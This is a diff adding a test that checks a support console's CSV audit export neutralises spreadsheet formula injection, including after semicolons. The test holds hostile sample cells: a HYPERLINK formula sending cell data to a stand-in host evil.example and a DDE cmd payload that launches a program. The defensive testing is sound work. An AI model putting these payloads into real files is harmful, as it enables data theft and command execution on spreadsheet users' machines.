@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from datetime import UTC, datetime, timedelta
 
 from sqlalchemy import select
@@ -99,3 +100,31 @@ def test_events_between_reads_in_batches_yet_returns_every_event_once_in_order(c
     with ctx.sessions() as session:
         batched = [e.id for e in audit.events_between(session, *far, batch=2)]
     assert batched == [e.id for e in _in_range(ctx, *far)] and len(batched) >= 7
+
+
+def test_csv_cells_that_would_start_a_formula_are_quoted_and_neutralised_even_after_a_semicolon(
+    console, clock
+) -> None:  # noqa: ANN001
+    client = console("support")
+    ctx = client.app.state.context
+    hostile = {
+        "actor": '=HYPERLINK("http://evil.example/?x="&A1)',
+        "message": "+1;=cmd|' /C calc'!A0;@SUM(1)",
+        "code": "-2+3",
+    }
+    with ctx.sessions.begin() as session:
+        audit.record(session, clock.now(), "staff.sign_in_failed", note="x;-1", **hostile)
+    day = clock.now().date().isoformat()
+
+    answer = client.get("/support/audit/export", params={"dal": day, "al": day, "formato": "csv"})
+
+    assert answer.status_code == 200, answer.text
+    raw = answer.text
+    # a cell start, whether the spreadsheet splits on "," (quoted) or on ";" (Italian Excel)
+    assert re.search(r'(^|[,;])"?[=+\-@]', raw, re.MULTILINE) is None, raw
+    assert all(line.startswith('"') and line.endswith('"') for line in raw.splitlines())
+    [row] = [r for r in csv.DictReader(io.StringIO(raw)) if r["kind"] == "staff.sign_in_failed"]
+    assert row["actor"] == "'" + hostile["actor"]
+    assert row["message"] == "'+1;'=cmd|' /C calc'!A0;'@SUM(1)"
+    assert row["code"] == "'-2+3"
+    assert json.loads(row["details"]) == {"note": "x;'-1"}  # the JSON, its ";-" neutralised
